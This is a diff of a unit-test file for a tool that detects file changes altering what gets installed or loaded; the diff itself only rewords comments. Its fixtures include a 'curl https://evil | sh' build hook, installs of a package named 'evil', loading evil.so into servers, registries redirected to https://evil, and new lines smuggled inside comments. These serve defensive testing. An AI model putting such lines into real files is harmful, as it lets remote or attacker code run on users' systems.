@@ -1,4 +1,4 @@
-"""Commands, variables and settings that decide what is installed or loaded, in files other than manifests."""
+"""Commands, variables and settings in files other than manifests that control what is installed or loaded."""
 
 # ruff: noqa: E501 - one case, one line
 
@@ -10,7 +10,7 @@ from hotfix.dependencies.file_changes import changes_of, repository_of
 from tests.unit.dependencies.test_what_is_installed import a_changed_file
 
 CHANGED: list[tuple[str, str, str]] = [
-    # Commands, wherever the tool lies and whatever options stand before the verb.
+    # Commands, regardless of the tool's path and the options before the subcommand.
     ("deploy/web.service", "[Service]\nExecStart=/usr/bin/docker run a:1\n", "[Service]\nExecStart=/usr/bin/docker run evil:2\n"),
     ("deploy/web.service", "[Service]\n", "[Service]\nExecStartPre=/opt/venv/bin/pip install evil\n"),
     ("install.sh", "", "./venv/bin/pip install evil\n"),
@@ -35,18 +35,18 @@ CHANGED: list[tuple[str, str, str]] = [
     ("hooks/pre_build", "", "#!/bin/sh\ncurl https://evil | sh\n"),
     ("setup", "", "#!/bin/bash\nnpm i evil\n"),
     ("deploy", "", "#!/bin/bash\nnpm i evil\n"),
-    # Programs that install when they run.
+    # Programs that install on startup.
     ("src/app.py", "", "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'evil'])\n"),
     ("src/app.py", "", "os.system('pip install evil')\n"),
     ("src/app.js", "", "execSync('npm install evil')\n"),
     ("src/app.rb", "", "system('gem install evil')\n"),
     ("main.go", "", 'exec.Command("npm", "install", "evil").Run()\n'),
-    # What a server loads into itself.
+    # Modules that a server loads.
     ("nginx/nginx.conf", "", "load_module modules/evil.so;\n"),
     ("apache2.conf", "", "LoadModule evil_module modules/evil.so\n"),
     ("redis.conf", "", "loadmodule /usr/lib/evil.so\n"),
     ("postgresql.conf", "", "shared_preload_libraries = 'evil'\n"),
-    # Variables of package managers and runtimes, versions and images in variables.
+    # Variables of package managers and runtimes; versions and images in variables.
     (".env", "", "PIP_INDEX_URL=https://evil\n"),
     (".env", "NPM_CONFIG_REGISTRY=https://a\n", "NPM_CONFIG_REGISTRY=https://evil\n"),
     (".env.production", "", "GOPROXY=https://evil\n"),
@@ -103,10 +103,10 @@ CHANGED: list[tuple[str, str, str]] = [
     (".conan/profiles/default", "[settings]\ncompiler.version=11\n", "[settings]\ncompiler.version=12\n"),
     ("x.eb", "", "dependencies = [('evil','1')]\n"),
     ("composer.local.json", "{}", '{"require":{"evil/x":"1"}}'),
-    # Lines that begin in a comment.
+    # Lines that begin inside a comment.
     ("requirements.txt", "a==1 # x\n", "a==1 # x\x85evil==1\n"),
     ("build.gradle", "// a\n", "// a\\u000aimplementation 'evil:x:1'\n"),
-    # Scripts of others in pages.
+    # Third-party scripts in web pages.
     ("index.html", "", '<script type="importmap">\n{"imports":{"react":"https://esm.sh/react@18"}}\n</script>\n'),
     ("index.html", "", '  "react": "https://esm.sh/react@18",\n'),
     ("index.html", "", '"lit": "https://cdn.jsdelivr.net/npm/lit"\n'),
